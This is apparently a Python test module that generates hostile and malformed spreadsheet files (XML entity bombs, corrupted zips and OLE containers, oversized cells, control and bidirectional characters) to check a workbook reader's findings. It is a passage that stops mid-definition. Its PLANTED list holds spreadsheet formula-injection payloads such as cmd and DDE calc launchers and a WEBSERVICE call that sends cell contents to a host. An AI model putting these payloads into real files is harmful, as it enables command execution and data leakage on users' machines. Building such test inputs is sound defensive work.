"""Hostile and odd files, each made from a good filled form by one fault, with the expected finding.

`python -m tests.hostile FOLDER` writes a campaign folder with all of them in its inbox, to look at.
"""

import base64
import os
import re
import struct
import sys
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import date
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from tests.binary import as_binary
from tests.building import cell_of, definition, filling, keyed, table, write
from tests.effort import THOROUGH, some
from toolkit.run.folder import Folder

#: Texts that a spreadsheet, a mail reader or a terminal may take for something other than text.
PLANTED = (
    *(
        '=HYPERLINK("http://example.com/x","bấm")',
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+84 67 385 1234",
    ),
    *("-2+3+cmd|' /C calc'!A0", "http://example.com/truy-cap", "mailto:so@example.com", "file:///c:/windows/win.ini"),
    *("internal:'_meta'!A1", "external:c:\\temp\\x.xlsx", "{=1+1}", "\t=1+1", "<r><t>đậm</t></r>", "'=1+1"),
    *("<script>alert(1)</script>", "{file} %s ${x} {{y}}", "\u202eslx.exe\u202c", "\x1b[31mđỏ\x07"),
    *('=WEBSERVICE("http://example.com/"&A1)', '=DDE("cmd";"/C calc";"x")'),
)


#: Cells of a good form, and the parts of their sheets: see `spots_of`.
Spots = SimpleNamespace
#: Files by the code of their finding (or codes, one of which it gives: `a|b`) and by name.
Files = dict[str, dict[str, bytes]]
#: How a good form becomes an odd one.
Change = Callable[[bytes, Spots], bytes]


#: Files that take a reader's whole time or memory, and others that are refused by the process that reads them.
ENDLESS = {"many-cells.xlsx", "xls-vong.xls", "amplified-300k.xlsx"}
IN_A_PROCESS = {*ENDLESS, "amplified-300.xlsx", "strings-cut.xlsx"}


def refused(good: bytes, spots: Spots) -> Iterator[tuple[str, bytes, tuple[str, ...]]]:
    """Files that are no workbook, or an unreadable or forbidden one, each with its name and the codes of which it gives
    one. None of them counts for an agency."""
    kinds = (_not_workbooks(), _other_books(good), _zips(good), _parts(good, spots), _cells(good, spots))
    for files in kinds:
        for codes, named in files.items():
            yield from ((name, data, tuple(codes.split("|"))) for name, data in named.items())


# --- No workbook at all --------------------------------------------------------------------------


def _not_workbooks() -> Files:
    """Files of other kinds, named like workbooks: of each kind one that `tests/files/test_gate.py` does not have."""
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    book = '<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
    mail = b"From: so@example.com\r\nTo: x@example.com\r\nSubject: bao cao\r\nMIME-Version: 1.0\r\n\r\nKinh gui\r\n"
    old, signs = compound({"Workbook": _biff(b"")}), bytes(range(64))
    return {
        "empty-file": {"chi-xuong-dong.xlsx": b"\r\n\r\n  "},
        "is-picture": {"anh.xlsx": base64.b64decode(png), "anh-chup.xls": b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01"},
        "is-web-page": {"trang-web-bom.xls": b'\xef\xbb\xbf\r\n<!DOCTYPE html>\n<html lang="vi"></html>'},
        "is-xml-spreadsheet": {"bang-2003.xml": f'<?xml version="1.0"?>\n{book}'.encode()},
        "is-text": {"van-ban-utf16.xls": "mã\t2019\t2020\r\nA1\t5\t7\r\n".encode("utf-16")},
        "is-mail": {"thu.eml": mail},
        "is-archive": {"nen.rar": b"Rar!\x1a\x07\x01\0" + signs, "nen.7z": b"7z\xbc\xaf\x27\x1c\0\x04" + signs},
        "encrypted": {"mat-khau-rc4.xls": compound({"Workbook": _biff(b"\x2f\0\x36\0\x01\0\x01\0\x01\0" + bytes(48))})},
        "too-large": {"60-mb.xlsx": b"PK\x03\x04" + bytes(60 * 2**20)},
        "damaged|not-a-workbook": {"xls-cut.xls": old[:700]},
        # The stream's chain of sectors returns to its start.
        "damaged|reader-died|took-too-long": {"xls-vong.xls": _patched(old, 512 + 4 * 8, 1)},
    }


def _patched(data: bytes, at: int, number: int) -> bytes:
    """With this number of four bytes there."""
    return data[:at] + struct.pack("<I", number) + data[at + 4 :]


def _biff(second: bytes) -> bytes:
    """A BIFF8 stream: its first record, then the one given, then the end."""
    first = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x2000, 0x7CD, 0x41, 6)
    return first + second + struct.pack("<HH", 0x0A, 0)


def compound(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file with these streams under its root, each in sectors of 512 bytes."""
    fat: list[int] = [0xFFFFFFFD]
    body: list[bytes] = []

    def chain(content: bytes) -> int:
        first, count = len(fat), max(1, -(-len(content) // 512))
        fat.extend([*range(first + 1, first + count), 0xFFFFFFFE])
        body.append(content.ljust(count * 512, b"\0"))
        return first

    # Streams under 4,096 bytes would be in the small ones' sectors: these are padded instead.
    placed = [(name, chain(content.ljust(4096, b"\0")), max(len(content), 4096)) for name, content in streams.items()]
    entries = [_entry("Root Entry", 5, child=1 if streams else 0xFFFFFFFF, start=0xFFFFFFFE, size=0)]
    for number, (name, start, size) in enumerate(placed, start=1):
        right = number + 1 if number < len(placed) else 0xFFFFFFFF
        entries.append(_entry(name, 2, right=right, start=start, size=size))
    entries += [bytes(128)] * (-len(entries) % 4)
    directory = chain(b"".join(entries))
    table = b"".join(struct.pack("<I", n) for n in fat).ljust(512, b"\xff")
    end = 0xFFFFFFFE
    numbers = struct.pack("<HHHHH6xIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, directory, 0, 4096, end, 0, end, 0, 0)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + numbers
    return header.ljust(512, b"\xff") + table + b"".join(body)


def _entry(name: str, kind: int, *, start: int, size: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
    written = name.encode("utf-16-le") + b"\0\0"
    numbers = struct.pack("<HBBIII36xIQ", len(written), kind, 1, 0xFFFFFFFF, right, child, start, size)
    return written.ljust(64, b"\0") + numbers


def old_record(kind: int, content: bytes) -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def old_book(cells: bytes, before: bytes = b"") -> bytes:
    """An .xls with one sheet, `A`, that holds these records; `before`: records of the whole workbook."""
    head = old_record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0x2000, 0x7CD, 0x41, 6))
    named = _biff(old_record(0x85, bytes(4) + b"\0\0\x01\0A") + before)
    place = named.index(struct.pack("<HH", 0x85, 9)) + 4
    named = named[:place] + struct.pack("<I", len(named)) + named[place + 4 :]
    return compound({"Workbook": named + head + cells + old_record(0x0A, b"")})


def old_number(row: int, column: int, number: float = 5.0) -> bytes:
    return old_record(0x203, struct.pack("<HHHd", row, column, 0, number))


# --- OpenDocument and binary workbooks -----------------------------------------------------------

_ODS = "application/vnd.oasis.opendocument.spreadsheet"
_NAMES = "urn:oasis:names:tc:opendocument:xmlns"
_SPACES = "".join(f' xmlns:{name}="{_NAMES}:{name}:1.0"' for name in ("office", "table", "text"))
_CALC = 'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
_ODS_HEAD = (
    f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content{_SPACES} {_CALC} office:version="1.2" '
    f'xmlns:draw="{_NAMES}:drawing:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
)


def open_document(rows: str, before: str = "") -> bytes:
    """An .ods with one sheet, `S`, that holds these rows; `before`: declarations before its first element."""
    head = _ODS_HEAD.replace("?>\n", f"?>\n{before}")
    body = f'<office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet>'
    content = f"{head}{body}</office:body></office:document-content>"
    return zipped({"mimetype": _ODS.encode(), "content.xml": content.encode(), "META-INF/manifest.xml": _manifest("")})


def _manifest(more: str, version: str = "") -> bytes:
    file = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{_ODS}"/>'
    head = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="{_NAMES}:manifest:1.0"{version}>'
    )
    return f"{head}\n{file}{more}</manifest:manifest>".encode()


def ods_row(*cells: str, repeated: int = 1) -> str:
    return f'<table:table-row table:number-rows-repeated="{repeated}">{"".join(cells)}</table:table-row>'


def ods_cell(inside: str = "<text:p>5</text:p>", attributes: str = 'office:value-type="float" office:value="5"') -> str:
    return f"<table:table-cell {attributes}>{inside}</table:table-cell>"


def _laughs() -> str:
    """A document type whose entity `a9` is a thousand million words long."""
    more = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{more}]>'


def _other_books(good: bytes) -> Files:
    def filled(cell: str = ods_cell(), repeated: int = 1) -> bytes:
        return open_document(ods_row(cell, repeated=repeated))

    wide = ods_cell(attributes='table:number-columns-repeated="16384" office:value-type="float" office:value="5"')
    text = ods_cell(f"<text:p>{'y' * 40000}</text:p>", 'office:value-type="string"')
    binary = _binary(good)
    sheet = next(name for name in parts_of(binary) if name.startswith("xl/worksheets/"))
    return {
        "suspicious-file": {
            "ods-bomb.ods": open_document(ods_row(ods_cell("<text:p>&a9;</text:p>")), _laughs()),
            "xlsb-twice.xlsb": added(binary, {"xl/workbook.bin": part(binary, "xl/workbook.bin")}),
        },
        "stray-cell": {
            "ods-lap-o.ods": filled(wide, repeated=1048576),
            "ods-lap-hang.ods": filled(repeated=10**18),
            "xls-o-lac.xls": old_book(old_number(65535, 255)),
        },
        "damaged": {
            "ods-lap-am.ods": filled(repeated=-5),
            "ods-cut.ods": with_parts(filled(), {"content.xml": _ODS_HEAD.encode()}),
            "xlsb-cut.xlsb": binary[: len(binary) // 2],
            "xlsb-trang-cut.xlsb": with_parts(binary, {sheet: part(binary, sheet)[:-7]}),
        },
        "not-read-whole": {
            "ods-khong-kieu.ods": filled(ods_cell(attributes="")),
            "xls-hai-lan.xls": old_book(old_number(1, 1) * 2),
        },
        "text-too-long": {"ods-chu-40000.ods": filled(text)},
        "not-our-form": {"ods-la.ods": filled(), "xls-la.xls": old_book(old_number(1, 1))},
    }


def _binary(data: bytes) -> bytes:
    """The workbook as an .xlsb."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "good.xlsx"
        path.write_bytes(data)
        return as_binary(path)


def _zips(good: bytes) -> Files:
    with zipfile.ZipFile(BytesIO(good)) as book:
        spot = book.getinfo("xl/worksheets/sheet3.xml")
    middle = spot.header_offset + 30 + len(spot.filename) + spot.compress_size // 2
    lying = added(good, {"xl/b.xml": bytes(30 * 2**20)})
    last, (first, second) = _directory(lying)[-1], _directory(good)[:2]
    entry_at = int.from_bytes(lying[last + 42 : last + 46], "little")
    return {
        "damaged": {
            "zip-cut.xlsx": good[: len(good) * 2 // 3],
            "zip-bit.xlsx": good[:middle] + bytes([good[middle] ^ 0xFF]) + good[middle + 1 :],
            # Two entries of the directory with the same bytes.
            "zip-overlap.xlsx": good[: second + 42] + good[first + 42 : first + 46] + good[second + 46 :],
        },
        "suspicious-file": {
            "zip-twice.xlsx": added(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")}),
            "zip-twice-case.xlsx": added(good, {"XL/Workbook.xml": b"<workbook/>"}),
        },
        # The directory states that the last entry is ten bytes long.
        "suspicious-file|damaged": {"zip-lying-size.xlsx": _patched(_patched(lying, last + 24, 10), entry_at + 22, 10)},
        "encrypted": {"zip-password.xlsx": _flagged(good), "ods-password.ods": _encrypted_ods()},
        "not-a-workbook": {"zip-in-front.xlsx": b"MZ" + bytes(500) + good},
    }


def zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def part(data: bytes, name: str) -> bytes:
    return parts_of(data)[name]


def with_parts(data: bytes, parts: dict[str, bytes | None]) -> bytes:
    """The workbook with parts replaced or added; None removes one."""
    content = {**parts_of(data), **parts}
    return zipped({name: text for name, text in content.items() if text is not None})


def entry(name: str) -> zipfile.ZipInfo:
    """A zip's entry with exactly this name: on Windows `zipfile` itself makes forward slashes of others."""
    info = zipfile.ZipInfo(name)
    info.filename = name.partition("\0")[0]  # as it leaves a name unchanged
    return info


def added(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The same zip with entries after its others, whatever their names."""
    out = BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a duplicate name is intended
        for name, content in parts.items():
            archive.writestr(entry(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _directory(data: bytes) -> list[int]:
    """Where the entries of the zip's directory begin."""
    return [m.start() for m in re.finditer(rb"PK\x01\x02", data)]


def _flagged(data: bytes) -> bytes:
    """Every entry marked as encrypted."""
    changed = bytearray(data)
    for place in _directory(data):
        changed[place + 8] |= 1
        changed[struct.unpack_from("<I", data, place + 42)[0] + 6] |= 1
    return bytes(changed)


def _encrypted_ods() -> bytes:
    way = '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
    kind = 'manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="999"'
    manifest = _manifest(f"<manifest:file-entry {kind}>{way}</manifest:file-entry>", ' manifest:version="1.2"')
    noise = bytes((i * 89 + i // 3) % 251 for i in range(3000))
    return zipped({"mimetype": _ODS.encode(), "content.xml": noise, "META-INF/manifest.xml": manifest})


_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def changed(data: bytes, name: str, do: Callable[[str], str]) -> bytes:
    """The workbook with one part's text changed. Raises ValueError if nothing changes."""
    before = part(data, name).decode()
    after = do(before)
    if after == before:
        raise ValueError(f"nothing to change in {name}")
    return with_parts(data, {name: after.encode()})


def _parts(good: bytes, spots: Spots) -> Files:
    sheet, strings, book = spots.figures, "xl/sharedStrings.xml", "xl/workbook.xml"

    typed = changed(good, sheet, lambda t: t.replace("?>\n", f"?>\n{_laughs()}", 1))
    bomb = changed(typed, sheet, lambda t: re.sub(r"<v>[^<]*</v>", "<v>&a9;</v>", t, count=1))
    return {
        "suspicious-file": {"xml-bomb.xlsx": bomb},
        "damaged": {
            "sheet-case.xlsx": changed(good, sheet, lambda t: t.replace("sheetData", "sheetdata")),
            "sheet-cut-at-row.xlsx": with_parts(good, {sheet: part(good, sheet).split(b'<row r="10"')[0]}),
            "sheet-gone.xlsx": with_parts(good, {sheet: None}),
            "book-gone.xlsx": with_parts(good, {book: None}),
            "book-cut.xlsx": with_parts(good, {book: part(good, book)[:700]}),
            "relations-gone.xlsx": with_parts(good, {"xl/_rels/workbook.xml.rels": None}),
        },
        "damaged|not-read-whole": {
            "sheet-html.xlsx": with_parts(good, {sheet: b"<html><body><p>404 Not Found</p></body></html>"}),
            "sheet-no-xml.xlsx": with_parts(good, {sheet: b"\x89PNG\r\n"}),
            "strings-gone.xlsx": with_parts(good, {strings: None}),
        },
        "damaged|not-read-whole|reader-died": {
            "strings-cut.xlsx": with_parts(good, {strings: part(good, strings)[:900]})
        },
    }


def _as_utf16(xml: bytes) -> bytes:
    return xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def put(data: bytes, sheet: str, address: str, cell: str) -> bytes:
    """The workbook with `cell` (XML; `{style}` is replaced by the cell's style) in place of the one at `address`."""

    def do(text: str) -> str:
        old = re.search(rf'<c r="{address}"( s="\d+")?[^>]*?(?:/>|>.*?</c>)', text)
        if old is None:
            raise ValueError(f"no cell {address}")
        return text.replace(old[0], cell.replace("{style}", old[1] or ""), 1)

    return changed(data, sheet, do)


def with_rows(data: bytes, sheet: str, rows: str) -> bytes:
    """The sheet with rows (XML) after its others."""
    return changed(data, sheet, lambda text: text.replace("</sheetData>", f"{rows}</sheetData>"))


def inline(address: str, text: str) -> str:
    shown = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{address}"{{style}} t="inlineStr"><is><t xml:space="preserve">{shown}</t></is></c>'


def _cells(good: bytes, spots: Spots) -> Files:
    sheet, line = spots.figures, spots.lines[0]
    strings = "xl/sharedStrings.xml"
    index = part(good, strings).count(b"<si>")
    shared = changed(good, strings, lambda t: t.replace("</sst>", f"<si><t>{'x' * 32767}</t></si></sst>"))

    def far(row: int, column: str) -> bytes:
        return with_rows(good, sheet, f'<row r="{row}"><c r="{column}{row}"><v>1</v></c></row>')

    def amplified(count: int) -> bytes:
        """One long text in this number of cells."""
        rows = (f'<row r="{n}"><c r="C{n}" t="s"><v>{index}</v></c></row>' for n in range(200, 200 + count))
        return with_rows(shared, spots.guide, "".join(rows))

    def typed(cell: str) -> bytes:
        return put(good, spots.statements, line, cell)

    cells = {n: "".join(f'<c r="{c}{n}"><v>{n}</v></c>' for c in "CDEF") for n in range(200, 60_200)}
    many = "".join(f'<row r="{n}">{row}</row>' for n, row in cells.items())
    runs = f"<r><t>{'y' * 9000}</t></r>" * 4
    return {
        "stray-cell": {
            "stray-last-cell.xlsx": far(1048576, "XFD"),
            "stray-column.xlsx": far(50000, "XFD"),
            "stray-outside.xlsx": far(1048577, "XFE"),
        },
        "reader-died|took-too-long": {"amplified-300k.xlsx": amplified(300_000)},
        "too-large": {"amplified-300.xlsx": amplified(300)},
        "too-many-cells": {"many-cells.xlsx": with_rows(good, spots.guide, many)},
        "damaged": {"dia-chi-sai.xlsx": put(good, sheet, spots.figure, '<c r="9E"{style}><v>2</v></c>')},
        "text-too-long": {
            "chu-40000.xlsx": typed(inline(line, "y" * 40000)),
            "chu-40000-cong-thuc.xlsx": typed(f'<c r="{line}"{{style}} t="str"><f>"y"</f><v>{"y" * 40000}</v></c>'),
            "chu-36000-nhieu-doan.xlsx": typed(f'<c r="{line}"{{style}} t="inlineStr"><is>{runs}</is></c>'),
            "chu-32768-utf16.xlsx": typed(inline(line, "\U0001f600" * 16384)),
        },
    }


def _prefixed(data: bytes, sheet: str) -> bytes:
    """The sheet's elements with a prefix, as some programs write them."""

    def do(text: str) -> str:
        text = re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", text)
        return text.replace("<x:worksheet xmlns=", "<x:worksheet xmlns:x=")

    return changed(data, sheet, do)


# --- Odd, and readable all the same ----------------------------------------------------------------


#: The day in a good form.
DAY = date(2020, 3, 7)


@dataclass(frozen=True, slots=True)
class Accepted:
    """One odd form that counts for its agency, with the codes that its cells give (beside those of a good form).
    `figure`: the value read from the changed cell; None if it is held or another cell is changed. `day`: the same for a
    cell with a day."""

    change: Change
    codes: set[str] = field(default_factory=set)
    figure: float | None = 5.0
    day: date | None = DAY


def _cell(sheet: str, spot: str, xml: str) -> Change:
    """The form with this cell (XML) in place of one of its `Spots`; `@`: its address, `$@`: the same with dollars."""

    def do(data: bytes, spots: Spots) -> bytes:
        at = getattr(spots, spot)
        at = at if isinstance(at, str) else at[0]
        cell = (
            xml.replace("$@", re.sub("([A-Z]+)", r"$\1$", at)).replace("@", at).replace("$following", spots.following)
        )
        return put(data, getattr(spots, sheet), at, cell)

    return do


def _texts(sheet: str, spot: str, *texts: str) -> Change:
    """The form with these texts in its lines, or in the rows of its table."""

    def do(data: bytes, spots: Spots) -> bytes:
        for address, text in zip(getattr(spots, spot), texts, strict=False):
            data = put(data, getattr(spots, sheet), address, inline(address, text))
        return data

    return do


def _figure(xml: str) -> Change:
    return _cell("figures", "figure", xml)


def _lines(*texts: str) -> Change:
    return _texts("statements", "lines", *texts)


def _rows(xml: str) -> Change:
    """The form with these rows after those of its guide."""
    return lambda data, spots: with_rows(data, spots.guide, xml)


def _with(name: str, content: bytes | None) -> Change:
    return lambda data, _: with_parts(data, {name: content})


def _part(name: str, do: Callable[[str], str]) -> Change:
    """The form with the text of a part changed; "": the part of its figures."""
    return lambda data, spots: changed(data, name or spots.figures, do)


def _chain(*changes: Change) -> Change:
    def do(data: bytes, spots: Spots) -> bytes:
        for change in changes:
            data = change(data, spots)
        return data

    return do


def _hours(data: bytes, spots: Spots) -> bytes:
    """A count of hours too large to be one."""

    def style(text: str) -> str:
        text = re.sub(r"<numFmts[^>]*>", '<numFmts count="99"><numFmt numFmtId="990" formatCode="[h]:mm"/>', text)
        new = '<xf numFmtId="990" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        return text.replace("</cellXfs>", f"{new}</cellXfs>")

    count = len(re.findall("<xf ", part(data, "xl/styles.xml").decode().split("<cellXfs")[1].split("</cellXfs")[0]))
    cell = f'<c r="{spots.figure}" s="{count}"><v>10000000000</v></c>'
    return put(changed(data, "xl/styles.xml", style), spots.figures, spots.figure, cell)


def _strict_open_xml(data: bytes, _: Spots) -> bytes:
    """The workbook as Excel's «Strict Open XML» names its parts."""
    parts, loose, strict = parts_of(data), b"http://schemas.openxmlformats.org/", b"http://purl.oclc.org/ooxml/"
    for kind, end in ((b"spreadsheetml/", b"main"), (b"officeDocument/", b""), (b"drawingml/", b"main")):
        old, new = loose + kind + b"2006/" + end, strict + kind + end
        parts = {name: content.replace(old, new) for name, content in parts.items()}
    return zipped(parts)


def _chart_sheet(data: bytes, spots: Spots) -> bytes:
    """The workbook with a sheet that is a chart."""
    space = "http://schemas.openxmlformats.org/"
    listed = '<sheets><sheet name="Biểu đồ" sheetId="77" r:id="rId77"/>'
    kind = f'Type="{space}officeDocument/2006/relationships/chartsheet" Target="chartsheets/sheet1.xml"'
    views = '<sheetViews><sheetView workbookViewId="0"/></sheetViews>'
    chart = f'<chartsheet xmlns="{space}spreadsheetml/2006/main">{views}</chartsheet>'
    return _chain(
        _part("xl/workbook.xml", lambda t: t.replace("<sheets>", listed)),
        _part(_RELATIONS, lambda t: t.replace("</Relation", f'<Relationship Id="rId77" {kind}/></Relation')),
        lambda data, _: with_parts(data, {"xl/chartsheets/sheet1.xml": _HEAD + chart.encode()}),
    )(data, spots)


def _unaddressed(text: str) -> str:
    """Rows and cells without addresses, as a stream writer leaves them: the gaps are filled with empty cells."""

    def row(match: re.Match[str]) -> str:
        cells = re.findall(r'<c r="([A-Z])\d+"([^>]*?)(/>|>.*?</c>)', match[1])
        at = {letter: f"<c{rest}{end}" for letter, rest, end in cells}
        return "<row>" + "".join(at.get(letter, "<c/>") for letter in "ABCDEFGH") + "</row>"

    return re.sub(r'<row r="\d+"[^>]*>(.*?)</row>', row, text)


#: A cell for a number: what is typed, what is read from it.
_FIGURES = r"""
| file                  | attributes    | in the cell                     | finding               | figure |
| loi-cong-thuc         | t="e"         | <f>1/0</f><v>#DIV/0!</v>        | error-value           |   |
| cong-thuc-chua-tinh   |               | <f>2+3</f>                      | formula-without-value |   |
| cong-thuc             |               | <f>2+3</f><v>5</v>              |                       | 5 |
| cong-thuc-ngoai       |               | <f>[1]Sheet1!$A$1</f><v>5</v>   |                       | 5 |
| so-mu                 |               | <v>5.0E0</v>                    |                       | 5 |
| so-am                 |               | <v>-5</v>                       | negative-number       |   |
| so-qua-lon            |               | <v>1E+200</v>                   | number-too-large      |   |
| so-phay               |               | <v>1,5</v>                      | not-whole             |   |
| so-nan                |               | <v>NaN</v>                      | not-a-number          |   |
| so-inf                |               | <v>INF</v>                      | not-a-number          |   |
| dung-sai              | t="b"         | <v>1</v>                        | not-a-number          |   |
| dung-sai-2            | t="b"         | <v>2</v>                        | error-value           |   |
| kieu-la               | t="zz"        | <v>5</v>                        | error-value           |   |
| ngay-iso              | t="d"         | <v>2020-03-07</v>               | date-in-number        |   |
| chu-trong-o           | t="str"       | <v>5</v>                        |                       | 5 |
| chu-trong-dau-cach    | t="inlineStr" | <is><t xml:space="preserve"> &#10;_x000D_</t></is> |    |   |
| chu-nhieu-kieu | t="inlineStr" | <is><r><rPr><b/></rPr><t>5</t></r><rPh sb="0" eb="1"><t>nam</t></rPh></is> | | 5 |
"""
_ERRORS = "#DIV/0! #N/A #NAME? #NULL! #NUM! #REF! #VALUE! #GETTING_DATA #SPILL! #CALC! Err:502"
_ODD_NAME = "am \x1b[31m\u202excod.xlsx" if os.name == "posix" else "am 2.xlsx"
_LONG = ("á" * 32767, "x" * 32767, "dòng\n" * 6553)
_RELATIONS, _TYPES = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
#: By the code of the finding and the value read for the figure.
_CHANGES: dict[tuple[str, float | None], dict[str, Change]] = {
    ("error-value", None): {
        f"loi-{n}.xlsx": _figure(f'<c r="@"{{style}} t="e"><v>{e}</v></c>') for n, e in enumerate(_ERRORS.split())
    },
    ("negative-number", None): {_ODD_NAME: _figure('<c r="@"{style}><v>-5</v></c>')},
    ("text-with-number", None): {
        "lenh-trong-o-so.xlsx": _figure(inline("@", PLANTED[1])),
        "chu-dai-trong-o-so.xlsx": _figure(inline("@", "5 " + "buổi " * 6553)),
    },
    ("not-a-number", None): {
        "dia-chi-web-trong-o-so.xlsx": _figure(inline("@", PLANTED[5])),
        "lien-ket-trong-o-so.xlsx": _chain(_lines(*PLANTED), _figure(inline("@", PLANTED[0]))),
    },
    ("", 1e10): {"gio-qua-lon.xlsx": _hours},
    ("not-a-date", 5.0): {
        "ngay-am.xlsx": _cell("figures", "day", '<c r="@"{style}><v>-5</v></c>'),
        "ngay-qua-lon.xlsx": _cell("figures", "day", '<c r="@"{style}><v>99999999999</v></c>'),
    },
    ("error-value", 5.0): {"loi-trong-bang.xlsx": _cell("table", "numbers", '<c r="@"{style} t="e"><v>#REF!</v></c>')},
    ("text-with-number", 5.0): {"lenh-trong-bang.xlsx": _cell("table", "numbers", inline("@", PLANTED[1]))},
    ("formula-without-value", 5.0): {
        "cong-thuc-khong-so.xlsx": _cell("table", "numbers", '<c r="@"{style}><f>1+1</f></c>')
    },
    ("unkeyed-content", 5.0): {
        "chu-dai-ngoai-bieu.xlsx": _rows(f'<row r="90">{inline("C90", "z" * 32767)}</row>'.replace("{style}", ""))
    },
    ("macros-present", 5.0): {"macro.xlsm": _with("xl/vbaProject.bin", compound({"VBA": bytes(5000)}))},
    ("date-from-serial", 5.0): {
        "khong-kieu.xlsx": _chain(
            _part(_RELATIONS, lambda t: re.sub(r"<Relationship [^>]*styles[^>]*/>", "", t)),
            _part(_TYPES, lambda t: re.sub(r"<Override [^>]*styles[^>]*/>", "", t)),
            _with("xl/styles.xml", None),
        )
    },
    ("", 5.0): {
        # Cells
        "dia-chi-dola.xlsx": _figure('<c r="$@"{style}><v>5</v></c>'),
        "kieu-cuc-lon.xlsx": _figure('<c r="@" s="99999"><v>5</v></c>'),
        "cong-thuc-chung.xlsx": _chain(
            _cell("figures", "following", '<c r="@"{style}><f t="shared" si="0"/><v>7</v></c>'),
            _figure('<c r="@"{style}><f t="shared" ref="@:$following" si="0">2+3</f><v>5</v></c>'),
        ),
        "ngay-1904.xlsx": _chain(
            _part("xl/workbook.xml", lambda t: t.replace("<workbookPr ", '<workbookPr date1904="1" ')),
            _cell("figures", "day", '<c r="@"{style}><v>42435</v></c>'),
        ),
        # Texts, in lines and in the table
        "cong-thuc-va-lien-ket.xlsx": _lines(*PLANTED),
        "ky-tu-dieu-khien.xlsx": _lines("a_x000D__x000A_b", "c_x0007_d_x0000_e_x001B_[31mf", "_x005F_x0041_ g"),
        "chu-32767.xlsx": _lines(*_LONG),
        "chu-nguoc.xlsx": _lines(
            "\u202ecod.\u202c \u200bẩn\u200d \u2066trong\u2069", "\ufeffđầu \u00adgiữa", "\u200f\u200e thử"
        ),
        "cong-thuc-trong-bang.xlsx": _texts("table", "names", *PLANTED),
        "chu-32767-trong-bang.xlsx": _texts("table", "names", *_LONG),
        # Parts of the file
        "nghiem-ngat.xlsx": _strict_open_xml,
        "trang-bieu-do.xlsx": _chart_sheet,
        "khong-dia-chi.xlsx": _part("", _unaddressed),
        "tien-to.xlsx": lambda data, spots: _prefixed(data, spots.figures),
        "xml-la.xlsx": _chain(
            _part("", lambda t: t.replace("<sheetData>", '<sheetData><!-- <c r="Z99"><v>9</v></c> -->')),
            _part("", lambda t: re.sub(r'<c r="([A-Z]+\d+)"', r"<c\n  r='\1'", t).replace("</v>", "</v >")),
            _part("xl/sharedStrings.xml", lambda t: re.sub("<t>((?:I. )?Một)</t>", r"<t><![CDATA[\1]]></t>", t)),
            lambda data, at: with_parts(data, {at.figures: b"\xef\xbb\xbf" + part(data, at.figures)}),
        ),
        "utf16.xlsx": lambda data, at: with_parts(data, {at.figures: _as_utf16(part(data, at.figures))}),
        "cheo-nguoc.xlsx": lambda data, _: zipped({n.replace("/", "\\"): part for n, part in parts_of(data).items()}),
        "duong-dan-tuyet-doi.xlsx": _part(_RELATIONS, lambda t: t.replace('Target="', 'Target="/xl/')),
        "kich-thuoc-sai.xlsx": _part("", lambda t: re.sub('(<dimension ref=)"[^"]*"', r'\1"A1:XFD1048576"', t)),
        "nhi-phan.xlsb": lambda data, _: _binary(data),
        "khong-mo-rong": lambda data, _: data,
        "doi-ten.csv": lambda data, _: data,
    },
}
ACCEPTED = {
    name: Accepted(change, {code} - {""}, figure, None if code == "not-a-date" else DAY)
    for (code, figure), changes in _CHANGES.items()
    for name, change in changes.items()
} | {
    f"{row['file']}.xlsx": Accepted(
        _figure(f'<c r="@"{{style}} {row["attributes"]}>{row["in the cell"]}</c>'),
        {*row["finding"].split()},
        float(row["figure"]) if row["figure"] else None,
    )
    for row in table(_FIGURES)
}


# --- In a folder -----------------------------------------------------------------------------------

_NAMES_ANYWHERE = ("báo cáo (1).xlsx", "-rf.xlsx", "{0}{file}%s.xlsx")
_ODD_NAMES = (
